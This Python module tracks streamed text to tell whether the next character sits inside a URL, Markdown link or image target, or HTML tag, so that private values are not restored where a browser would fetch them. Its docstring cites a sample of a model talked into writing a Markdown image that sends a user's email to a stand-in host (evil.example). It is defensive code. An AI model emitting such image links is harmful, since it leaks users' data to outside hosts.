"""Where a browser would fetch or follow what stands in a text: URLs, link and image targets, HTML tags.

A model can be talked into writing `![x](https://evil.example/?q=[EMAIL_1])`: a value restored there would leave with
the first look at the page. `Places` follows a text as it is written and says whether the next character stands in
such a place. It errs on the side of saying yes, and goes by what has been written only, so cutting the text changes
nothing.

Rules: CommonMark 0.31.2 (links, images, reference definitions, autolinks), GitHub Flavored Markdown (extended autolinks
run to white space or `<`), HTML Living Standard, 13.2.5 (a tag runs from `<` and a letter, `/`, `!` or `?` to `>`).
"""

from __future__ import annotations

import re

_OPENER = re.compile(r"(?P<url>//|www\.)|(?P<target>\]\()|(?P<definition>\]:)|(?P<tag><[A-Za-z/!?])", re.IGNORECASE)
_URL_END = re.compile(r"[ \t\n\v\f\r<]")
_TARGET_STEP = re.compile(r"\\[^\n]|[()]|\n[ \t]*\n")
_TARGET_CUT = re.compile(r"(?:\\|\n[ \t]*)\Z")
_TAG_STEP = re.compile("[\"'>]")
_LONGEST_OPENER = 4


class Places:
    """Follows one text.

    Attributes:
        inside: what the text ends in: "url", "target", "definition", "tag", or "" for plain text.
    """

    def __init__(self) -> None:
        self.inside = ""
        self._carry = ""
        self._depth = 0
        self._quote = ""

    def feed(self, text: str) -> None:
        """Take the next piece of the text."""
        buffer = self._carry + text
        at = 0
        while at < len(buffer):
            if self.inside:
                at = getattr(self, f"_{self.inside}")(buffer, at)
            else:
                opener = _OPENER.search(buffer, at)
                if not opener:
                    self._carry = buffer[max(at, len(buffer) - _LONGEST_OPENER + 1) :]
                    return
                self.inside, at = str(opener.lastgroup), opener.end()
            if at < 0:
                return
        self._carry = ""

    def _leave(self) -> None:
        self.inside, self._depth, self._quote = "", 0, ""

    def _stay(self, carry: str = "") -> int:
        self._carry = carry
        return -1

    def _url(self, buffer: str, at: int) -> int:
        end = _URL_END.search(buffer, at)
        if not end:
            return self._stay()
        self._leave()
        return end.start()

    def _definition(self, buffer: str, at: int) -> int:
        end = buffer.find("\n", at)
        if end < 0:
            return self._stay()
        self._leave()
        return end

    def _target(self, buffer: str, at: int) -> int:
        for step in _TARGET_STEP.finditer(buffer, at):
            if step[0] == "(":
                self._depth += 1
            elif step[0] == ")":
                self._depth -= 1
            at = step.end()
            if self._depth < 0 or step[0][0] == "\n":
                self._leave()
                return at
        cut = _TARGET_CUT.search(buffer, at)
        return self._stay(cut[0] if cut else "")

    def _tag(self, buffer: str, at: int) -> int:
        for step in _TAG_STEP.finditer(buffer, at):
            if self._quote:
                self._quote = "" if step[0] == self._quote else self._quote
            elif step[0] == ">":
                self._leave()
                return step.end()
            else:
                self._quote = step[0]
        return self._stay()
